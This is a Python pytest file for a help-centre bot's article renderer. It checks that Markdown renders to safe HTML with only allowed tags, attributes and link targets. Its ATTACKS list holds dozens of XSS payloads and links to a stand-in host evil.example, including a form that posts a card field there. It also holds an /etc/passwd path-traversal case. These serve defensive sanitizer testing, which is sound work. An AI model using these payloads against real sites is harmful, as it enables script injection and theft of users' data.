import re
from html.parser import HTMLParser

import pytest

from bot.web.catalogue import Catalogue
from bot.web.rendering import RenderedArticle, link_resolver, render_article
from retrieval.article import Audience
from retrieval.markdown import heading_anchors
from tests.web.installation import ARTICLES, article

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="https://evil.example/pixel.png">',
    "<IMG SRC=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg/onload=alert(1)//",
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=card></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://evil.example/x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<p id=main class=lead>x</p>",
    "<h2 id=q>x</h2>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    "<x onclick=alert(1) tabindex=1>x</x>",
    "<portal src=https://evil.example>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:\\\\evil.example 'x')",
    '[x](# "onmouseover=alert(1)")',
    '[x](https://e.example "\\"><script>alert(1)</script>")',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![<img src=x onerror=alert(1)>](x)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: //evil.example 'x'",
    "## <img src=x onerror=alert(1)>",
    "## <script>alert(1)</script> Title",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | b |",
    "- <svg/onload=alert(1)>",
    "> <iframe src=x>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
)
ALLOWED = {
    "a", "blockquote", "br", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
HARMLESS = {"href", "rel", "id", "class", "tabindex", "role", "aria-label", "scope", "start"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def render(body: str, audience: Audience = Audience.CUSTOMER) -> RenderedArticle:
    page = article("page", "A page", body)
    catalogue = Catalogue([*ARTICLES, page])
    return render_article(page, link_resolver(page, catalogue, audience))


def html(body: str, audience: Audience = Audience.CUSTOMER) -> str:
    rendered = render(body, audience)
    return rendered.lead + rendered.rest


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leaves_more_than_plain_markup(attack: str) -> None:
    for body in (attack, f"Before\n\n{attack}\n\nafter", f"- {attack}"):
        parser = _Tags()
        parser.feed(html(body))
        parser.close()
        for tag, attributes in parser.seen:
            assert tag in ALLOWED
            assert set(attributes) <= HARMLESS
            target = attributes.get("href") or "#"
            assert re.match(r"(https?://|mailto:|tel:|#|/(articles/|privacy))", target)
            assert "evil.example" not in target.removeprefix("https://evil.example")


def test_headings_carry_the_anchors_of_their_passages() -> None:
    body = "Lead.\n\n## Fees & limits\n\nx\n\n### `Code` *it*\n\n## Fees & limits\n\n# Top\n"
    rendered = render(body)
    expected = [heading.anchor for heading in heading_anchors(body)]
    assert re.findall(r'<h\d id="([^"]+)"', rendered.rest) == expected
    assert [heading.anchor for heading in rendered.contents] == expected
    assert [heading.level for heading in rendered.contents] == [2, 3, 2, 2]


def test_the_lead_is_what_stands_before_the_first_heading() -> None:
    rendered = render("Short answer.\n\n- one\n\n## Steps\n\nMore.")
    assert "Short answer." in rendered.lead
    assert "<li>one</li>" in rendered.lead
    assert rendered.rest.startswith('<h2 id="steps">')
    assert render("Only text.").rest == ""
    assert render("## Only\n\nrest").lead == ""


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        ("replace.md", "/articles/replace-card"),
        ("./replace.md#fees--limits", "/articles/replace-card#fees--limits"),
        ("../cards/replace.md", "/articles/replace-card"),
        ("cards/replace.md", "/articles/replace-card"),
        ("replace-card", "/articles/replace-card"),
        ("/articles/replace-card#x", "/articles/replace-card#x"),
        ("#steps", "#steps"),
        ("/privacy", "/privacy"),
        ("https://e.example/a", "https://e.example/a"),
        ("mailto:help@e.example", "mailto:help@e.example"),
        ("gone.md", None),
        ("../internal/desk-freeze.md", None),
        ("/articles/desk-freeze", None),
        ("../../../etc/passwd", None),
        ("ftp://e.example", None),
    ],
)
def test_links_lead_to_articles_or_outside_or_nowhere(link: str, expected: str | None) -> None:
    made = html(f"See [this page]({link}).")
    assert "this page" in made
    assert re.findall(r'href="([^"]+)"', made) == ([] if expected is None else [expected])


def test_links_outside_give_nothing_away() -> None:
    assert 'rel="noopener noreferrer nofollow"' in html("[x](https://e.example)")
    assert "rel=" not in html("[x](replace.md)")


def test_staff_may_follow_links_to_internal_articles() -> None:
    made = html("[x](../internal/desk-freeze.md)", Audience.INTERNAL)
    assert 'href="/staff/articles/desk-freeze"' in made


def test_tables_scroll_in_a_frame_of_their_own_and_keep_alignment() -> None:
    made = html("| A | B |\n|---|--:|\n| 1 | 2 |")
    assert '<div class="table" tabindex="0" role="group" aria-label="Table"><table>' in made
    assert '<th scope="col" class="end">B</th>' in made
    assert '<td class="end">2</td>' in made
    assert "style" not in made


def test_an_image_is_its_alternative_text_and_a_break_stays_a_break() -> None:
    made = html("A ![drawing of a card](https://e.example/x.png) b<br>c")
    assert "drawing of a card" in made
    assert "<img" not in made
    assert "<br>" in made


def test_a_block_of_html_counts_by_its_text() -> None:
    assert html("<div onclick='x'>\nKeep <b>this</b>\n</div>") == "<p>Keep this</p>"
